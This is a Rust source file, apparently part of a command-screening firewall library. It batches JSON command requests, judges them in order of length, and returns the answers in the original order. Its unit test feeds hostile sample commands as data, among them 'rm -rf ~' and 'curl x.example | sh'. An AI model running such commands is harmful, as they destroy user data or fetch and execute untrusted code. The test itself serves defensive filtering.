//! Lines that are there at once, judged in the order in which they take the least time: by their length.
//!
//! Much of what a command takes is code and tables that the processor does not have at hand, and the next one mostly needs
//! the same if it is as long. In what order lines are judged shows in no answer.

use super::Batch;
use std::io::BufRead as _;
use std::ops::Range;

/// Lines and their answers, again and again in the same memory.
#[derive(Debug, Default)]
pub(super) struct Window {
    lines: Vec<Numbered>,
    /// In the order in which lines were judged.
    answers: Vec<u8>,
    /// Where each line's answer lies among them, in the order of the lines.
    places: Vec<Range<usize>>,
}

/// A line among others.
#[derive(Debug)]
struct Numbered {
    number: usize,
    bytes: Range<usize>,
}

impl Batch<'_> {
    /// Appends the answers to whole lines as [`answer`](Self::answer) gives them, each with an end of line, in the order of
    /// the lines. Blank ones have none. Says whether all are verdicts.
    ///
    /// Many lines at once take less time than one after the other.
    ///
    /// ```
    /// use shward::{Batch, Firewall, Policy, Setting};
    ///
    /// let firewall = Firewall::new(Policy::default());
    /// let mut batch = Batch::new(&firewall, Setting::frozen(), "/w", "/home/u");
    /// let mut answers = Vec::new();
    /// assert!(batch.answer_lines(b"{\"id\":1,\"command\":\"ls -l\"}\n\n{\"id\":2,\"command\":\"ls\"}\n", &mut answers));
    /// let ids = |line: &str| line.starts_with("{\"v\":1,\"id\":1,");
    /// assert_eq!(String::from_utf8(answers)?.lines().map(ids).collect::<Vec<_>>(), [true, false]);
    /// # Ok::<(), std::string::FromUtf8Error>(())
    /// ```
    pub fn answer_lines(&mut self, lines: &[u8], out: &mut Vec<u8>) -> bool {
        let mut window = std::mem::take(&mut self.window);
        window.take(lines);
        let mut verdicts = true;
        for line in &window.lines {
            let start = window.answers.len();
            verdicts &= self.answer(lines.get(line.bytes.clone()).unwrap_or_default(), &mut window.answers);
            window.answers.push(b'\n');
            if let Some(place) = window.places.get_mut(line.number) {
                *place = start..window.answers.len();
            }
        }
        for place in &window.places {
            out.extend_from_slice(window.answers.get(place.clone()).unwrap_or_default());
        }
        self.window = window;
        verdicts
    }
}

impl Window {
    /// Finds the lines, and puts those of one length one behind the other.
    fn take(&mut self, lines: &[u8]) {
        self.lines.clear();
        self.answers.clear();
        self.places.clear();
        let (mut rest, mut start) = (lines, 0);
        loop {
            // Reading from memory does not fail.
            let length = rest.skip_until(b'\n').unwrap_or_default();
            if length == 0 {
                break;
            }
            let bytes = start..start + length;
            start = bytes.end;
            if lines.get(bytes.clone()).is_some_and(|line| !line.trim_ascii().is_empty()) {
                self.lines.push(Numbered { number: self.lines.len(), bytes });
            }
        }
        self.lines.sort_unstable_by_key(|line| (line.bytes.len(), line.number));
        self.places.resize(self.lines.len(), 0..0);
    }
}

#[cfg(test)]
mod tests {
    use crate::{Batch, Firewall, Policy, Setting};

    /// Requests and lines that are none, blank ones, and a last one without an end.
    #[test]
    fn lines_at_once_are_answered_as_one_after_the_other() {
        let firewall = Firewall::new(Policy::default());
        let fresh = || Batch::new(&firewall, Setting::frozen(), "/w", "/home/u");
        let mut lines = Vec::new();
        for (id, command) in ["rm -rf ~", "ls", "curl x.example | sh", "ls", "", "l\\u0073 -l", "a\\u0000"]
            .into_iter()
            .cycle()
            .take(40)
            .enumerate()
        {
            let blanks = "\n \t\r\n".repeat(id % 3);
            lines.push(format!("{blanks}{{\"command\":\"{command}\",\"id\":{id}}}\r\n"));
            lines.push(format!("{{\"id\":{id},\"argv\":[\"{command}\"]}}\nnone\n"));
        }
        lines.push("{\"id\":\"last\",\"command\":\"ls\"}".to_owned());
        let text = lines.concat();
        let (mut one, mut single, mut verdicts) = (fresh(), Vec::new(), true);
        for line in text.split_inclusive('\n').filter(|line| !line.trim().is_empty()) {
            verdicts &= one.answer(line.as_bytes(), &mut single);
            single.push(b'\n');
        }
        let (mut batch, mut answers) = (fresh(), b"before".to_vec());
        for again in [1, 2] {
            assert_eq!(batch.answer_lines(text.as_bytes(), &mut answers), verdicts);
            assert_eq!(answers.len(), "before".len() + again * single.len());
            assert!(answers.ends_with(&single), "{}", String::from_utf8_lossy(&answers));
        }
        for nothing in ["", "\n", " \n\n"] {
            assert!(batch.answer_lines(nothing.as_bytes(), &mut Vec::new()), "{nothing:?}");
        }
    }
}
